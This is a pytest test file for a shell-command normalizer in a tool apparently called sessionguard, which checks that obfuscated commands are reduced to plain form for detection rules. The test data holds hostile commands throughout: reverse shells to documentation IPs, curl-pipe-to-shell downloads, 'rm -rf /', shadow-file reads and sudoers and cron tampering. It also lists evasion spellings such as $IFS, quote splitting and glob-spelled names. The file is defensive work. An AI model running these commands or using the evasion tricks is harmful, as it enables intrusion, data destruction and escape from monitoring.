"""Command normalization: trivial shell obfuscation must not change what the rules see, and hostile text must not
make it raise or go quadratic."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sessionguard.session import shell
from sessionguard.session.shell import NormalizedCommand, normalize_command
from sessionguard.session.shell_paths import glob_matches


def segments(text: str) -> tuple[str, ...]:
    return normalize_command(text).segments


def whole(text: str) -> str:
    return normalize_command(text).whole


@pytest.mark.parametrize(
    ("typed", "seen"),
    [
        ("h''istory -c", "history -c"),
        ('hi""story -c', "history -c"),
        ("un\\set HISTFILE", "unset HISTFILE"),
        ("c'u'rl http://x.example", "curl http://x.example"),
        ('"r"m -rf /', "rm -rf /"),
        ("\\rm -rf /", "rm -rf /"),
        ("$'\\x72\\x6d' -rf /", "rm -rf /"),
        ("$'\\162\\155' -rf /", "rm -rf /"),
        ("cat$IFS/etc/shadow", "cat /etc/shadow"),
        ("cat${IFS}/etc/shadow", "cat /etc/shadow"),
        ("c$@url x", "curl x"),
        ("cu\\\nrl x", "curl x"),
    ],
)
def test_quotes_backslashes_and_expansion_fillers_are_removed_from_words(typed: str, seen: str) -> None:
    assert segments(typed) == (seen,)


def test_repeated_and_odd_whitespace_becomes_single_spaces() -> None:
    assert normalize_command("  ls \t -la   /tmp  ") == NormalizedCommand("ls -la /tmp", ("ls -la /tmp",))
    assert segments("echo 'a    b'") == ("echo a b",)


@pytest.mark.parametrize(
    ("typed", "seen"),
    [
        ("/usr/bin/curl -s x", "curl -s x"),
        ("/bin/rm -rf /", "rm -rf /"),
        ('"/usr/bin/curl" x', "curl x"),
    ],
)
def test_absolute_command_paths_are_dropped(typed: str, seen: str) -> None:
    assert segments(typed)[0] == seen


@pytest.mark.parametrize(
    ("typed", "seen"),
    [
        ("./deploy.sh --prod", ("deploy.sh --prod", "./deploy.sh --prod")),
        ("bin/tool x", ("tool x", "bin/tool x")),
        (
            "./find . -exec /bin/sh -p \\; -quit",
            ("find . -exec /bin/sh -p ; -quit", "./find . -exec /bin/sh -p ; -quit"),
        ),
    ],
)
def test_a_relative_command_path_is_seen_by_name_and_as_typed(typed: str, seen: tuple[str, ...]) -> None:
    assert segments(typed) == seen


@pytest.mark.parametrize(
    ("typed", "seen"),
    [
        ("c${x}url -s http://x", "curl -s http://x"),
        ("a=cu; b=rl; $a$b -s http://x", "curl -s http://x"),
        ("/???/b??h -i", "bash -i"),
        ("/bin/c?t /etc/shadow", "cat /etc/shadow"),
    ],
)
def test_command_names_spelled_with_variables_or_globs_are_resolved(typed: str, seen: str) -> None:
    assert seen in segments(typed)


@pytest.mark.parametrize(
    ("typed", "seen"),
    [
        ("$u aws iam create-access-key --user-name admin", "aws iam create-access-key --user-name admin"),
        ("${x}$y find / -delete", "find / -delete"),
        ("sudo $u cat /etc/shadow", "cat /etc/shadow"),
    ],
)
def test_a_word_of_unset_variables_is_no_word_and_the_next_is_the_command(typed: str, seen: str) -> None:
    assert seen in segments(typed)


def test_unset_variable_words_are_dropped_from_the_whole_line_too() -> None:
    assert normalize_command("$u bash -i 2>&1 | $u nc 203.0.113.9 443").whole == "bash -i 2>&1 | nc 203.0.113.9 443"


@pytest.mark.parametrize(
    ("typed", "seen"),
    [
        ("$EDITOR /etc/hosts", ("$EDITOR /etc/hosts",)),  # upper case: from the environment, which is not seen
        ("u=vim; $u /etc/hosts", ("u=vim", "vim /etc/hosts", "$u /etc/hosts")),  # set on the line: expanded
        ("$u", ("$u",)),  # alone, nothing follows
    ],
)
def test_variables_that_may_be_set_are_not_dropped(typed: str, seen: tuple[str, ...]) -> None:
    assert segments(typed) == seen


@pytest.mark.parametrize(
    ("typed", "whole", "segment"),
    [
        ("{curl,-s,http://x.example/a}|{bash,}", "curl -s http://x.example/a | bash", "{curl,-s,http://x.example/a}"),
        ("{cat,/etc/shadow}", "cat /etc/shadow", "{cat,/etc/shadow}"),
        ("{echo,aWQ=}|{base64,-d}|{bash,-i}", "echo aWQ= | base64 -d | bash -i", "{base64,-d}"),
        # after a wrapper: the wrapped command is read from its items, the wrapper too
        ("sudo {cat,/etc/shadow}", "cat /etc/shadow", "sudo cat /etc/shadow"),
        (
            "nohup {bash,-i} >& /dev/tcp/198.51.100.7/4444 0>&1",
            "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
            "nohup bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
        ),
        (
            "env {curl,-s,http://x.example/a}|{bash,}",
            "curl -s http://x.example/a | bash",
            "env {curl,-s,http://x.example/a}",
        ),
    ],
)
def test_a_command_spelled_as_a_brace_list_is_its_items_and_stays_as_typed(
    typed: str, whole: str, segment: str
) -> None:
    normalized = normalize_command(typed)
    assert normalized.whole == whole
    assert segment in normalized.segments  # SG-OBF-006 reads the spelling itself


@pytest.mark.parametrize(
    ("typed", "whole"),
    [
        ("echo {a,b}", "echo {a,b}"),
        ("cp app.conf{,.bak}", "cp app.conf{,.bak}"),
        ("mkdir -p {bash,zsh}-completions", "mkdir -p {bash,zsh}-completions"),
        ("{,}", "{,}"),
        ("sudo echo {a,b}", "echo {a,b}"),  # an argument, after a wrapper too
        ("sudo {,}", "{,}"),
    ],
)
def test_brace_lists_that_are_no_command_stay(typed: str, whole: str) -> None:
    assert normalize_command(typed).whole == whole


def test_a_glob_without_letters_is_not_resolved() -> None:
    assert segments("* * * * * root x") == ("* * * * * root x",)


def test_a_long_glob_is_matched_in_linear_time() -> None:
    """A red-team review typed `*` 53 times and a letter as a command name: the glob's backtracking regex, tried
    against every candidate program, held the delivery for minutes. With 63 of them it still resolves nothing."""
    typed = "*" * 63 + "q -x"
    assert segments(typed) == (typed,)
    assert "bash -i" in segments("*" * 63 + "h -i")
    assert (
        glob_matches("/*/*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a", "/usr/" + "a" * 30 + "b")
        is False
    )


@pytest.mark.parametrize(
    ("typed", "run"),
    [
        ("python3 -c 'import os; os.system(\"curl http://x | sh\")'", "curl http://x | sh"),
        ("awk 'BEGIN {system(\"/bin/sh -i\")}'", "sh -i"),
        ("perl -e 'print `id`'", "id"),
        ("php -r 'shell_exec(\"rm -rf /tmp/x\");'", "rm -rf /tmp/x"),
        ('node -e \'require("child_process").execSync("wget -q http://x")\'', "wget -q http://x"),
    ],
)
def test_commands_inside_interpreter_code_are_read_as_commands(typed: str, run: str) -> None:
    assert run in normalize_command(typed).inner or run in segments(typed)


@pytest.mark.parametrize(
    ("typed", "wrapped"),
    [
        ("sudo find . -exec /bin/sh \\; -quit", "sudo find . -exec /bin/sh ; -quit"),
        ("nice -n 5 /bin/sh", "nice -n 5 sh"),
        ("sudo LD_PRELOAD=/tmp/x.so find", "sudo find"),
        ("! /bin/sh", "! sh"),
    ],
)
def test_a_wrapped_command_is_also_seen_with_its_wrappers(typed: str, wrapped: str) -> None:
    assert wrapped in segments(typed)


def test_command_run_from_an_unusual_directory_is_also_kept_with_its_path() -> None:
    assert segments("/tmp/.x/miner --pool x") == ("miner --pool x", "/tmp/.x/miner --pool x")
    assert segments("/usr/local/bin/aws s3 ls") == ("aws s3 ls",)


@pytest.mark.parametrize(
    "typed",
    [
        "sudo rm -rf /",
        "sudo -u root -E rm -rf /",
        "sudo -uroot -- rm -rf /",
        "sudo --user=root --preserve-env rm -rf /",
        "doas -u root rm -rf /",
        "env rm -rf /",
        "env -i A=1 B=2 rm -rf /",
        "nohup rm -rf / &",
        "exec rm -rf /",
        "time rm -rf /",
        "time -p rm -rf /",
        "nice -n 10 rm -rf /",
        "nice -10 rm -rf /",
        "ionice -c 3 rm -rf /",
        "timeout 10 rm -rf /",
        "timeout -s KILL 5m rm -rf /",
        "stdbuf -oL rm -rf /",
        "command rm -rf /",
        "builtin rm -rf /",
        "setsid rm -rf /",
        "busybox rm -rf /",
        "sudo nohup nice -n 5 timeout 10 /bin/rm -rf /",
        "proxychains4 -q rm -rf /",
        "proxychains -f /tmp/p.conf rm -rf /",
        "torsocks -a 127.0.0.1 rm -rf /",
        "cpulimit -l 50 -- rm -rf /",
        "cpulimit --limit=50 rm -rf /",
        "taskset -c 0 rm -rf /",
        "taskset 0x1 rm -rf /",
        "chrt -f 99 rm -rf /",
        "strace -f -o /tmp/t rm -rf /",
        "ltrace -e malloc rm -rf /",
        "flock -w 5 /tmp/lock rm -rf /",
        "flock -n /tmp/lock rm -rf /",  # -n is a switch: the lock file is the positional, not its value
        "faketime -f '+1d' rm -rf /",
        "strace -c rm -rf /",
        "firejail --noprofile rm -rf /",
        "faketime 2020-01-01 rm -rf /",
        "if true; then rm -rf /; fi",
        "{ rm -rf /; }",
    ],
)
def test_wrappers_and_keywords_are_stripped_down_to_the_command(typed: str) -> None:
    assert "rm -rf /" in segments(typed)


@pytest.mark.parametrize(
    "typed", ["strace -p 1234", "cpulimit -p 1234 -l 50", "taskset -p 0x1 1234", "flock -c x /tmp/l"]
)
def test_a_wrapper_given_a_process_or_a_command_string_runs_no_command_of_its_own(typed: str) -> None:
    assert segments(typed) == (typed,)


def test_xargs_runs_its_argument_as_the_command() -> None:
    assert segments("find . -name x | xargs -I{} rm -rf {}")[:2] == ("find . -name x", "rm -rf {}")


def test_a_shell_started_by_xargs_is_not_fed_by_the_pipe_so_its_wrappers_are_kept() -> None:
    # xargs reads the pipe itself; the shell gets the terminal (-o) or /dev/null, so it is the interactive shell
    # the wrapped form stands for, unlike `curl … | sudo sh`.
    assert "sudo xargs -o -a /dev/null sh" in segments("echo x | sudo xargs -o -a /dev/null /bin/sh")
    assert segments("curl -s x | sudo sh") == ("curl -s x", "sh")


@pytest.mark.parametrize(
    ("typed", "seen"),
    [
        ("cd /tmp; ./x", "/tmp/x"),
        ("sh -c 'cd /tmp/; ./x -d'", "/tmp/x -d"),
        ("cd /dev/shm && ./.k", "/dev/shm/.k"),
        ("cd /tmp; cd x; ./y", "/tmp/x/y"),  # a relative `cd` from a known directory
    ],
)
def test_a_program_run_by_relative_path_after_cd_is_also_seen_where_it_runs_from(typed: str, seen: str) -> None:
    assert seen in segments(typed)


@pytest.mark.parametrize("typed", ["cd build; ./x", "cd /tmp; cd -; ./y", "cd $HOME; ./y", "./x; cd /tmp"])
def test_only_an_absolute_directory_of_the_line_before_the_program_counts(typed: str) -> None:
    assert not any(segment.startswith("/") for segment in segments(typed))


@pytest.mark.parametrize("typed", ["sudo -i", "sudo -s", "sudo -l", "command -v nmap", "env", "nohup"])
def test_a_wrapper_with_nothing_to_run_stays_as_typed(typed: str) -> None:
    assert segments(typed) == (typed,)


def test_leading_assignments_become_a_segment_of_their_own() -> None:
    assert segments("HISTFILE=/dev/null bash") == ("bash", "HISTFILE=/dev/null")
    assert segments("sudo LD_PRELOAD=/tmp/x.so find") == (
        "find",
        "sudo find",
        "LD_PRELOAD=/tmp/x.so",
        "sudo LD_PRELOAD=/tmp/x.so",  # what sudo hands the program, for rules about privileged escapes
    )
    assert segments("HISTFILE=/dev/null") == ("HISTFILE=/dev/null",)


@pytest.mark.parametrize(
    ("typed", "expected_segments", "expected_whole"),
    [
        ("a; b && c || d | e & f", ("a", "b", "c", "d", "e", "f"), "a ; b && c || d | e & f"),
        ("a;b&&c||d|e", ("a", "b", "c", "d", "e"), "a ; b && c || d | e"),
        ("a |& b", ("a", "b"), "a |& b"),
        ("a\nb\n", ("a", "b"), "a ; b ;"),
        ("(cd /tmp && make) &", ("cd /tmp", "make"), "( cd /tmp && make ) &"),
        ("curl -s x | sudo bash", ("curl -s x", "bash"), "curl -s x | bash"),
    ],
)
def test_chains_are_split_into_segments_and_the_whole_keeps_its_operators(
    typed: str, expected_segments: tuple[str, ...], expected_whole: str
) -> None:
    assert normalize_command(typed) == NormalizedCommand(expected_whole, expected_segments)


@pytest.mark.parametrize(
    ("typed", "inner_segment", "outer_segment", "expected_whole"),
    [
        ("echo $(id)", "id", "echo $(...)", "echo $(id)"),
        ("echo `id`", "id", "echo $(...)", "echo $(id)"),
        ('echo "user: $(whoami)"', "whoami", "echo user: $(...)", "echo user: $(whoami)"),
        ("bash <(curl -s x)", "curl -s x", "bash <(...)", "bash <(curl -s x)"),
        ("tee >(gzip > f)", "gzip > f", "tee >(...)", "tee >(gzip > f)"),
        ("echo ${x:-$(id)}", "id", "echo ${x:-$(...)}", "echo ${x:-$(id)}"),
    ],
)
def test_substitutions_are_segments_of_their_own_and_appear_in_full_in_the_whole(
    typed: str, inner_segment: str, outer_segment: str, expected_whole: str
) -> None:
    normalized = normalize_command(typed)
    assert inner_segment in normalized.segments
    assert outer_segment in normalized.segments
    assert normalized.whole == expected_whole


@pytest.mark.parametrize(
    ("typed", "expected_inner"),
    [
        ("sh -c 'echo a; rm -rf /'", "echo a ; rm -rf /"),
        ('bash -lc "curl x|sh"', "curl x | sh"),
        ("eval 'rm -rf /; id'", "rm -rf / ; id"),
        ("su - root -c 'rm -rf /; id'", "rm -rf / ; id"),
        ("watch -n 1 'ls; rm -rf /'", "ls ; rm -rf /"),
        ("bash <<< 'curl x|sh'", "curl x | sh"),
        ('sudo sh -c "echo x >> /etc/sudoers; id"', "echo x >> /etc/sudoers ; id"),
    ],
)
def test_command_strings_given_to_a_shell_are_normalized_too(typed: str, expected_inner: str) -> None:
    normalized = normalize_command(typed)
    assert expected_inner in normalized.inner
    assert set(re.split(" [;|] ", expected_inner)) <= set(normalized.segments)


@pytest.mark.parametrize(
    ("typed", "expected_inner"),
    [
        ("x=$(curl http://a|sh)", "curl http://a | sh"),
        ("echo `curl -s x | bash`", "curl -s x | bash"),
        ("cat <(wget -qO- x | python3)", "wget -qO- x | python3"),
        ("a $(b $(c|d))", "c | d"),
        ("a $(b $(c|d))", "b $(c | d)"),
    ],
)
def test_a_substitutions_pipeline_is_an_inner_line(typed: str, expected_inner: str) -> None:
    """Whole-line rules (download piped into a shell) must see a pipeline that runs inside `$(...)`: in the whole
    line it ends in `)`, which a rule anchored at the end of the command does not expect."""
    assert expected_inner in normalize_command(typed).inner


def test_nested_substitutions_cannot_use_up_the_allowance_for_shell_command_strings() -> None:
    padding = "$(" * 8 + "a" * 100_000 + ")" * 8
    assert "curl x | sh" in normalize_command(f"echo {padding}; bash -c 'curl x|sh'").inner


def test_eval_chains_reach_the_command_without_recursion_limits() -> None:
    assert "rm -rf /" in segments("eval " * 5000 + "rm -rf /")


def test_deeply_nested_substitutions_are_flattened_but_their_commands_are_still_segments() -> None:
    normalized = normalize_command("echo " + "$(" * 500 + "rm -rf /" + ")" * 500 + "; id")
    assert normalized.segments == ("rm -rf /", "echo $(...)", "id")
    assert normalized.whole.endswith(") ; id")


def test_redirections_are_separate_words_and_leading_ones_move_behind_the_command() -> None:
    assert segments("echo x>>/root/.ssh/authorized_keys") == ("echo x >> /root/.ssh/authorized_keys",)
    assert segments("2>/dev/null rm -rf /") == ("rm -rf / 2> /dev/null",)
    assert segments("ls 2>&1") == ("ls 2>&1",)
    assert segments("a2>x") == ("a2 > x",)


def test_heredoc_bodies_are_inspected_line_by_line() -> None:
    normalized = normalize_command("cat <<'EOF' > /etc/cron.d/x\n* * * * * root curl x|sh\nEOF")
    assert normalized.segments == ("cat << EOF > /etc/cron.d/x", "* * * * * root curl x", "sh", "EOF")
    assert normalized.whole == "cat << EOF > /etc/cron.d/x ; * * * * * root curl x | sh ; EOF"


def test_a_newline_ends_an_open_quote_so_a_stray_apostrophe_hides_nothing() -> None:
    assert "rm -rf /" in segments("echo it's\nrm -rf /")


@pytest.mark.parametrize("typed", ["'", '"', "$(", "`", "\\", "$'\\", "$'\\x", "${", "<(", ")", "&&", "|", ";;"])
def test_unterminated_and_stray_syntax_is_tolerated(typed: str) -> None:
    normalize_command(typed)


def test_lone_surrogates_from_damaged_input_become_replacement_characters() -> None:
    normalized = normalize_command("echo \ud800 | rm -rf /")
    assert "rm -rf /" in normalized.segments
    normalized.whole.encode("utf-8")


def test_a_lexer_bug_costs_precision_not_the_pipeline(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(_text: str) -> NormalizedCommand:
        raise IndexError("bug")

    monkeypatch.setattr(shell, "_normalize", broken)
    assert normalize_command("rm  -rf /") == NormalizedCommand("rm -rf /", ("rm -rf /",))


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_normalization_never_raises_and_yields_single_lines(text: str) -> None:
    normalized = shell._normalize(text)  # without the safety net, so a bug fails here
    for line in (normalized.whole, *normalized.segments, *normalized.inner):
        assert "\n" not in line


def soup(*tokens: str) -> st.SearchStrategy[str]:
    return st.lists(st.sampled_from(tokens), max_size=40).map("".join)


SHELLISH = soup(*"ab1 =-/'\"\\$`(){};&|<>\n#*@!x", "$(", "sh -c ", "sudo ", "2>&1", "IFS", "$'\\x4")


@settings(max_examples=300, deadline=None)
@given(SHELLISH)
def test_normalization_never_raises_on_shell_syntax_soup(text: str) -> None:
    shell._normalize(text)


PLAIN_LINE = soup(*"ab19 -=/.\t;&|<>$'\"", "2>&1", "&&", "||", ">>", "${x}", "$HOME", "sudo ", "A=1 ", "é")


@settings(max_examples=500, deadline=None)
@given(PLAIN_LINE)
def test_the_fast_lexers_agree_with_the_full_lexer(text: str) -> None:
    fast = shell.Context(budget=10**6)
    fast_whole = shell._parse_line(text, fast)
    full = shell.Context(budget=10**6)
    full_whole = shell._Lexer(text, full).run()
    assert (fast_whole, fast.segments) == (full_whole, full.segments)


HOSTILE = {
    "quoted fragments": "'a'",
    "unterminated quotes": "'a\"b",
    "backslashes": "\\",
    "nested substitutions": "$(",
    "nested backticks": "`$(",
    "sh -c nesting": "sh -c ",
    "semicolons": "a;",
    "newlines": "a\n",
    "ansi-c quoting": "$'\\x41'",
    "globbed names": "*" * 40 + "q;",
}


@pytest.mark.parametrize("unit", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_text_normalizes_without_error(unit: str) -> None:
    # How the time grows with the size of these texts is measured by `make bench` (benchmarks/bench_engine.py),
    # not here: timing assertions fail on a busy machine and prove nothing on an idle one.
    normalized = normalize_command(unit * (64 * 1024 // len(unit)))
    assert isinstance(normalized.whole, str)
